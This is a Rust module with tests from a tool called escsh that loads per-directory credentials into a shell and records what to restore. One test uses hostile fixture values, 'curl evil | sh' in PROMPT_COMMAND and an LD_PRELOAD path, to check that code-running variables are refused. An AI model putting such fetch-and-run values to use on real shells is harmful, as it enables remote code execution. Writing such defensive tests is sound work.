//! `escsh export SHELL`: what the hook runs when something may have
//! changed. It decides what this directory should have loaded, moves the
//! shell there, and tells the hook what to watch and until when nothing
//! needs checking again.

use std::collections::BTreeMap;
use std::os::unix::fs::OpenOptionsExt;
use std::path::{Path, PathBuf};

use base64::Engine;

use super::decide::{self, Decision, Once, Opener};
use super::diff::{self, Change, Desired, Outcome};
use super::state::{Fingerprinter, Prev, State, VAR as STATE_VAR};
use crate::fsutil::{self, Trusting};
use crate::paths::Paths;
use crate::shell::{protocol, Op, Shell};

const B64: base64::engine::GeneralPurpose = base64::engine::general_purpose::STANDARD;
/// What the keyed hash of a record of kept values is taken under.
const KEPT_RECORD: &str = "__escsh_kept";

/// Everything the export reads from the world, so tests can supply it.
pub struct Inputs<'a> {
    pub paths: &'a Paths,
    pub shell: Shell,
    pub now: i64,
    pub cwd: PathBuf,
    /// What the shell calls this directory (`$PWD`), for its own comparisons.
    pub pwd: String,
    pub env: &'a dyn Fn(&str) -> Option<Vec<u8>>,
    /// What escsh loaded into this shell, as [`Loaded::read`] found it.
    pub loaded: &'a Loaded,
    /// `__ESCSH_STAMP`: this shell's stamp file, once it has one.
    pub stamp: Option<PathBuf>,
    pub fingerprinter: &'a Fingerprinter,
}

pub struct Export {
    /// Statements for the shell to eval.
    pub script: String,
    /// One line each, for stderr (to be made printable: they quote paths,
    /// names and errors from outside).
    pub messages: Vec<String>,
}

/// The values variables had before escsh set them: what the shell kept in
/// `__escsh_prev`, else (a child shell) the private record `state` names.
fn kept_values(
    paths: &Paths,
    state: &State,
    shell_prev: Option<&str>,
    fp: &Fingerprinter,
) -> BTreeMap<String, Vec<u8>> {
    if shell_prev.is_some_and(|p| !p.is_empty()) {
        return decode_prev(shell_prev);
    }
    let Some(id) = state
        .kept
        .as_deref()
        .filter(|id| id.bytes().all(|b| b.is_ascii_hexdigit()))
    else {
        return BTreeMap::new();
    };
    let Ok(bytes) = fsutil::read_checked(&paths.kept_dir().join(id), 16 << 20, Trusting::Private)
    else {
        return BTreeMap::new();
    };
    if fp.of(KEPT_RECORD, &bytes) != id {
        return BTreeMap::new();
    }
    decode_prev(std::str::from_utf8(&bytes).ok())
}

/// Writes the record of `kept` values and returns its id.
fn keep_values(
    paths: &Paths,
    kept: &BTreeMap<String, Vec<u8>>,
    fp: &Fingerprinter,
) -> std::io::Result<Option<String>> {
    if kept.is_empty() {
        return Ok(None);
    }
    let text = encode_prev(kept);
    let id = fp.of(KEPT_RECORD, text.as_bytes());
    let file = paths.kept_dir().join(&id);
    // Touched when reused, so the sweeper sees it is in use.
    let touched = std::fs::File::options()
        .write(true)
        .custom_flags(libc::O_NOFOLLOW)
        .open(&file)
        .and_then(|f| f.set_modified(std::time::SystemTime::now()));
    if touched.is_err() {
        fsutil::write_atomic(&file, text.as_bytes())?;
    }
    Ok(Some(id))
}

/// The state a shell's `ESCSH_STATE` text stands for; a foreign or damaged
/// one is `None`.
pub fn decode_state(paths: &Paths, text: &[u8]) -> Option<State> {
    State::decode(&String::from_utf8_lossy(text), &paths.states_dir())
}

/// What escsh loaded into a shell, decoded once per export: its
/// `ESCSH_STATE` and the values its variables had before.
#[derive(Debug, Default)]
pub struct Loaded {
    pub state: State,
    pub prev: BTreeMap<String, Vec<u8>>,
    /// Said when `ESCSH_STATE` was there but could not be used.
    pub unreadable: bool,
}

impl Loaded {
    /// From the shell's variables (`env`) and `__ESCSH_PREV` (`shell_prev`).
    pub fn read(
        paths: &Paths,
        env: &dyn Fn(&str) -> Option<Vec<u8>>,
        shell_prev: Option<&str>,
        fp: &Fingerprinter,
    ) -> Loaded {
        let Some(raw) = env(STATE_VAR) else {
            return Loaded::default();
        };
        let Some(state) = decode_state(paths, &raw) else {
            return Loaded {
                unreadable: true,
                ..Loaded::default()
            };
        };
        let prev = kept_values(paths, &state, shell_prev, fp);
        Loaded {
            state,
            prev,
            unreadable: false,
        }
    }
}

pub fn export(inputs: &Inputs, opener: &dyn Opener) -> anyhow::Result<Export> {
    let env = inputs.env;
    let mut messages = Vec::new();
    if inputs.loaded.unreadable {
        messages.push(format!(
            "ignoring {STATE_VAR}: written by another version of escsh, or its record is gone"
        ));
    }
    let state = &inputs.loaded.state;
    let mut next = state.clone();
    let mut once = Once::default();
    let mut decision = decide::decide(
        inputs.paths,
        &inputs.cwd,
        inputs.now,
        opener,
        &mut next,
        &mut messages,
        &mut once,
    );
    refuse_unrepresentable(inputs, &mut decision);
    // Without a stamp the hook looks again at every prompt: slower, still right.
    let stamp = touch_stamp(inputs).unwrap_or_else(|e| {
        once.say(format!("cannot write this shell's stamp: {e}"));
        PathBuf::new()
    });
    messages.extend(once.settle(&mut next));
    let mut outcome = diff::apply(
        env,
        state,
        &inputs.loaded.prev,
        decision.desired.as_ref(),
        inputs.fingerprinter,
    );
    outcome.state.blocked = next.blocked;
    outcome.state.warned = next.warned;
    outcome.state.at = next.at;
    outcome.state.kept = keep_values(inputs.paths, &outcome.shell_prev, inputs.fingerprinter)?;
    let script = render(inputs, &outcome, &decision, &stamp)?;
    // Said only now that the change is certain to be handed to the shell.
    messages.extend(transition_messages(state, &outcome, &decision));
    messages.extend(outcome.notes.iter().cloned());
    Ok(Export { script, messages })
}

/// A variable the shell cannot be given exactly (tcsh: bytes that are not
/// UTF-8) is left as it is, with a note: neither set, nor overridden when
/// the value it has now could not be put back on leave.
fn refuse_unrepresentable(inputs: &Inputs, decision: &mut Decision) {
    let sh = inputs.shell;
    let Some(desired) = decision.desired.as_mut() else {
        return;
    };
    let target = desired.env.clone();
    let refused = &mut decision.refused;
    desired.vars.retain(|(name, value, _)| {
        let now = (inputs.env)(name);
        let kept = inputs.loaded.prev.get(name);
        let ok = [Some(value.as_bytes()), now.as_deref(), kept.map(Vec::as_slice)]
            .into_iter()
            .flatten()
            .all(|v| sh.representable(v));
        if !ok {
            refused.push(format!(
                "{target} sets {name}, but its value or the one it would replace has bytes that are not UTF-8, which {} cannot hold exactly in this locale: not exported",
                sh.name()
            ));
        }
        ok
    });
}

fn transition_messages(old: &State, out: &Outcome, decision: &Decision) -> Vec<String> {
    let desired: Option<&Desired> = decision.desired.as_ref();
    let mut lines = Vec::new();
    let new_env = desired.map(|d| d.env.as_str()).unwrap_or("");
    if old.is_loaded() && old.env != new_env {
        lines.push(format!("unloading {}", old.env));
    }
    let Some(desired) = desired else {
        return lines;
    };
    let expiry = desired
        .expires_at
        .map(|t| format!(" expires {}", crate::time::local_hh_mm(t)))
        .unwrap_or_default();
    if old.env != desired.env {
        // `+NAME` was not set before; `~NAME` had a value, restored on leave.
        let names: Vec<String> = out
            .state
            .keys
            .iter()
            .filter(|k| !matches!(k.name.as_str(), "ESCSH_ENV" | "AWS_CREDENTIAL_EXPIRATION"))
            // `-NAME` is hidden (restored on leave); one that was not set
            // is not worth a word.
            .filter_map(
                |k| match (k.prev.clone(), desired.hidden.contains(&k.name)) {
                    (Prev::Unset, true) => None,
                    (Prev::Kept, true) => Some(format!("-{}", k.name)),
                    (Prev::Unset, false) => Some(format!("+{}", k.name)),
                    (Prev::Kept, false) => Some(format!("~{}", k.name)),
                },
            )
            .collect();
        let names = if names.is_empty() {
            "no variables".to_string()
        } else {
            names.join(" ")
        };
        lines.push(format!("loading {} ({names}){expiry}", desired.env));
        let hidden: Vec<&str> = out
            .state
            .keys
            .iter()
            .filter(|k| k.prev == Prev::Kept && desired.hidden.contains(&k.name))
            .map(|k| k.name.as_str())
            .collect();
        if !hidden.is_empty() {
            lines.push(format!(
                "hiding {} while {} is loaded (each would take precedence over the credential endpoint); restored when you leave",
                hidden.join(" "),
                desired.env
            ));
        }
        lines.extend(decision.refused.iter().cloned());
    } else if out.changes.iter().any(|c| matches!(c, Change::Set(..))) {
        lines.push(format!("refreshed {}{expiry}", desired.env));
    }
    lines
}

fn touch_stamp(inputs: &Inputs) -> std::io::Result<PathBuf> {
    let stamp = match &inputs.stamp {
        // Only a stamp of ours: a file directly in the stamps directory.
        Some(p)
            if p.parent() == Some(inputs.paths.stamps_dir().as_path())
                && p.file_name().is_some_and(|n| n != "." && n != "..") =>
        {
            p.clone()
        }
        _ => inputs
            .paths
            .stamps_dir()
            .join(format!("{}-{}", std::process::id(), inputs.now)),
    };
    if let Some(dir) = stamp.parent() {
        crate::fsutil::create_private_dir_all(dir)?;
    }
    // Only its time matters: no content, no fsync on the prompt's path. It
    // is touched last, after this export wrote what it writes (the cache),
    // so only later changes are newer (bash, zsh and fish compare
    // nanoseconds). The kernel picks the time (UTIME_NOW): it stamps files
    // from a coarse clock, and a precise time of ours could be later than
    // the stamp of a file changed just after us.
    let named =
        |e: std::io::Error| std::io::Error::new(e.kind(), format!("{}: {e}", stamp.display()));
    let file = std::fs::File::options()
        .write(true)
        .create(true)
        .truncate(false)
        .mode(0o600)
        .custom_flags(libc::O_NOFOLLOW | libc::O_CLOEXEC)
        .open(&stamp)
        .map_err(named)?;
    let now = libc::timespec {
        tv_sec: 0,
        tv_nsec: libc::UTIME_NOW,
    };
    // SAFETY: futimens reads two timespecs from the array, which outlives the call.
    if unsafe {
        libc::futimens(
            std::os::unix::io::AsRawFd::as_raw_fd(&file),
            [now, now].as_ptr(),
        )
    } != 0
    {
        return Err(named(std::io::Error::last_os_error()));
    }
    Ok(stamp)
}

pub fn decode_prev(raw: Option<&str>) -> BTreeMap<String, Vec<u8>> {
    let Some(raw) = raw.filter(|r| !r.is_empty()) else {
        return BTreeMap::new();
    };
    let Ok(json) = B64.decode(raw) else {
        return BTreeMap::new();
    };
    let map: BTreeMap<String, String> = serde_json::from_slice(&json).unwrap_or_default();
    map.into_iter()
        .filter_map(|(k, v)| Some((k, B64.decode(v).ok()?)))
        .collect()
}

fn encode_prev(prev: &BTreeMap<String, Vec<u8>>) -> String {
    if prev.is_empty() {
        return String::new();
    }
    let map: BTreeMap<&String, String> = prev.iter().map(|(k, v)| (k, B64.encode(v))).collect();
    B64.encode(serde_json::to_vec(&map).unwrap_or_default())
}

/// The change for the shell: the user's variables and `ESCSH_STATE`,
/// then the hook's own bookkeeping (see [`protocol`]), as one list of
/// operations that the shell serializes.
fn render(
    inputs: &Inputs,
    out: &Outcome,
    decision: &Decision,
    stamp: &Path,
) -> anyhow::Result<String> {
    let mut ops: Vec<Op> = out
        .changes
        .iter()
        .map(|change| match change {
            Change::Set(name, value) => Op::Set(name.clone(), value.clone()),
            Change::Unset(name) => Op::Unset(name.clone()),
        })
        .collect();
    let state = if out.state == State::default() {
        ops.push(Op::Unset(STATE_VAR.to_string()));
        String::new()
    } else {
        let encoded = out.state.encode(&inputs.paths.states_dir())?;
        ops.push(Op::Set(STATE_VAR.to_string(), encoded.clone().into_bytes()));
        encoded
    };
    let path_text = |p: &Path| p.as_os_str().as_encoded_bytes().to_vec();
    ops.push(Op::Keep(protocol::PWD, inputs.pwd.clone().into_bytes()));
    ops.push(Op::Keep(protocol::STATE, state.into_bytes()));
    ops.push(Op::Keep(protocol::STAMP, path_text(stamp)));
    ops.push(Op::Keep(
        protocol::PREV,
        encode_prev(&out.shell_prev).into_bytes(),
    ));
    let rc = decision.rc.as_deref().map(path_text).unwrap_or_default();
    ops.push(Op::Keep(protocol::RC, rc));
    // Files that exist must not change (the .escrc must also stay);
    // files that do not must not appear.
    let (present, absent): (Vec<&PathBuf>, Vec<&PathBuf>) =
        decision.watch.iter().partition(|p| p.exists());
    ops.push(Op::KeepList(
        protocol::WATCH,
        present.iter().map(|p| path_text(p)).collect(),
    ));
    ops.push(Op::KeepList(
        protocol::ABSENT,
        absent.iter().map(|p| path_text(p)).collect(),
    ));
    ops.push(Op::Keep(
        protocol::DEADLINE,
        decision.deadline.to_string().into_bytes(),
    ));
    // fish has no clock: it compares the stamp's age with a time to live.
    let ttl = decision.deadline.saturating_sub(inputs.now);
    ops.push(Op::Keep(protocol::TTL, ttl.to_string().into_bytes()));
    Ok(inputs.shell.render(&ops)?)
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::hook::cache::{CachedVar, Entry};
    use crate::hook::decide::Failed;
    use crate::hook::project::Project;
    use crate::hook::rc;
    use crate::hook::trust::TrustStore;
    use std::cell::Cell;

    /// Opens to fixed credentials expiring at `expires`; counts refreshes.
    struct Fake {
        expires: i64,
        opened_at: i64,
        refreshes: Cell<u32>,
        vars: Vec<(&'static str, &'static str)>,
    }

    impl Fake {
        fn new(expires: i64, opened_at: i64) -> Fake {
            Fake {
                expires,
                opened_at,
                refreshes: Cell::new(0),
                vars: vec![("AWS_SECRET_ACCESS_KEY", "s3cr3t-value")],
            }
        }
    }

    impl Opener for Fake {
        fn open(&self, project: &Project, _: Option<&[u8]>, _: i64) -> Result<Entry, Failed> {
            Ok(Entry {
                target: project.target_name(),
                vars: self
                    .vars
                    .iter()
                    .map(|(n, v)| CachedVar {
                        name: n.to_string(),
                        value: v.to_string(),
                        secret: true,
                        aws: None,
                    })
                    .collect(),
                expires_at: Some(self.expires),
                opened_at: self.opened_at,
                sources: vec![crate::store::Source::read_as(&project.rc.path, None)],
                failure: None,
                unopened: false,
            })
        }

        fn refresh_in_background(&self, _: &Path) {
            self.refreshes.set(self.refreshes.get() + 1);
        }

        fn open_detached(&self, _: &Path) -> Option<std::process::Child> {
            None
        }
    }

    /// An allowed project in a private home; returns the home and project.
    fn allowed_project(escrc: &str) -> (tempfile::TempDir, Paths, PathBuf) {
        let home = tempfile::tempdir().unwrap();
        let paths = Paths::under(home.path());
        let proj = std::fs::canonicalize(home.path()).unwrap().join("proj");
        std::fs::create_dir_all(&proj).unwrap();
        std::fs::write(proj.join(".escrc"), escrc).unwrap();
        let found = rc::find(&proj).unwrap().unwrap();
        TrustStore::new(&paths.trust_dir())
            .allow(&found, None)
            .unwrap();
        (home, paths, proj)
    }

    fn run(paths: &Paths, cwd: &Path, now: i64, opener: &Fake) -> Export {
        let env = |_: &str| None;
        let inputs = Inputs {
            paths,
            shell: Shell::Bash,
            now,
            cwd: cwd.to_path_buf(),
            pwd: cwd.display().to_string(),
            env: &env,
            loaded: &Loaded::default(),
            stamp: None,
            fingerprinter: &Fingerprinter::load(paths.data_dir()).unwrap(),
        };
        export(&inputs, opener).unwrap()
    }

    #[test]
    fn near_expiry_refreshes_in_the_background_and_expired_credentials_are_not_exported() {
        let (_home, paths, proj) = allowed_project("app/dev\n");
        let fake = Fake::new(1_000, 100);
        // Long before the refresh point: loaded, nothing started, and the
        // hook's deadline is the refresh point (a fifth of the lifetime early).
        let out = run(&paths, &proj, 200, &fake);
        assert!(out.script.contains("export AWS_SECRET_ACCESS_KEY="));
        assert!(
            out.script.contains("__escsh_deadline='820'"),
            "{}",
            out.script
        );
        assert_eq!(fake.refreshes.get(), 0);
        // Past the refresh point: still loaded, a background refresh starts.
        let out = run(&paths, &proj, 900, &fake);
        assert!(out.script.contains("export AWS_SECRET_ACCESS_KEY="));
        assert_eq!(fake.refreshes.get(), 1);
        // Expired: nothing exported, and the user is told.
        let out = run(&paths, &proj, 1_000, &fake);
        assert!(
            !out.script.contains("AWS_SECRET_ACCESS_KEY="),
            "{}",
            out.script
        );
        assert!(
            out.messages.iter().any(|m| m.contains("have expired")),
            "{:?}",
            out.messages
        );
        assert!(out.messages.iter().all(|m| !m.contains("s3cr3t")));
    }

    #[test]
    fn variables_that_run_code_are_refused_unless_opted_in_and_owned_ones_always() {
        let mut fake = Fake::new(1_000, 100);
        fake.vars = vec![
            ("PROMPT_COMMAND", "curl evil | sh"),
            ("LD_PRELOAD", "/tmp/x.so"),
            ("__escsh_bin", "/tmp/evil"),
            ("ESCSH_HOME", "h"),
            ("FOO", "bar"),
        ];
        let (_home, paths, proj) = allowed_project("environment: app/dev\n");
        let out = run(&paths, &proj, 200, &fake);
        assert!(out.script.contains("export FOO='bar'"), "{}", out.script);
        for name in ["PROMPT_COMMAND", "LD_PRELOAD", "__escsh_bin=", "ESCSH_HOME"] {
            assert!(!out.script.contains(name), "{name} in {}", out.script);
        }
        let said = out.messages.join("\n");
        assert!(said.contains("unsafe-vars: PROMPT_COMMAND"), "{said}");
        assert!(said.contains("__escsh_bin, a name escsh keeps"), "{said}");
        assert!(!said.contains("curl evil"), "{said}");
        let (_home, paths, proj) =
            allowed_project("environment: app/dev\nunsafe-vars: PROMPT_COMMAND __escsh_bin\n");
        let out = run(&paths, &proj, 200, &fake);
        assert!(
            out.script.contains("export PROMPT_COMMAND="),
            "{}",
            out.script
        );
        assert!(!out.script.contains("__escsh_bin='/tmp"), "{}", out.script);
        assert!(!out.script.contains("LD_PRELOAD"), "{}", out.script);
    }

    #[test]
    fn messages_mark_new_and_overridden_variables_and_empty_environments() {
        let (_home, paths, proj) = allowed_project("app/dev\n");
        let mut fake = Fake::new(1_000, 100);
        fake.vars = vec![];
        let out = run(&paths, &proj, 200, &fake);
        assert!(
            out.messages
                .iter()
                .any(|m| m.starts_with("loading app/dev (no variables)")),
            "{:?}",
            out.messages
        );
    }

    #[test]
    fn kept_values_round_trip() {
        let prev: BTreeMap<String, Vec<u8>> = [("A".to_string(), b"x\xff".to_vec())].into();
        assert_eq!(decode_prev(Some(&encode_prev(&prev))), prev);
        assert!(decode_prev(Some("garbage")).is_empty());
    }
}
